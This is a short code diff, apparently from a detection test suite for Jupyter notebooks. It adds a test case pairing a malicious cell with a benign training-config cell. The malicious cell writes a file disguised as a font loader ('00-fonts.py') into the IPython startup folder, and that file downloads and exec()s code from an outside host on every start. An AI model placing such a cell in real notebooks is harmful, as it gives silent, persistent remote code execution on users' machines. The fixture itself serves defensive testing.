@@ -118,7 +118,7 @@ def add(out):
     )
     put(
         "notebook_writes_start_up",
-        notebook(("markdown", "# Fine-tune the ranker"), ("code", "%%writefile /root/.ipython/profile_default/startup/00-fonts.py\nimport urllib.request as u\nexec(u.urlopen('https://cdn.ranker-models.net/f').read())\n")),
+        notebook(("markdown", "# Fine-tune the ranker"), ("code", "%%writefile ~/.ipython/profile_default/startup/00-fonts.py\nimport urllib.request as u\nexec(u.urlopen('https://cdn.ranker-models.net/f').read())\n")),
         notebook(("markdown", "# Fine-tune the ranker"), ("code", "%%writefile train_config.yaml\nlr: 3.0e-5\nepochs: 3\nurl: https://huggingface.co/datasets/glue\n")),
         None,
         "finetune.ipynb",
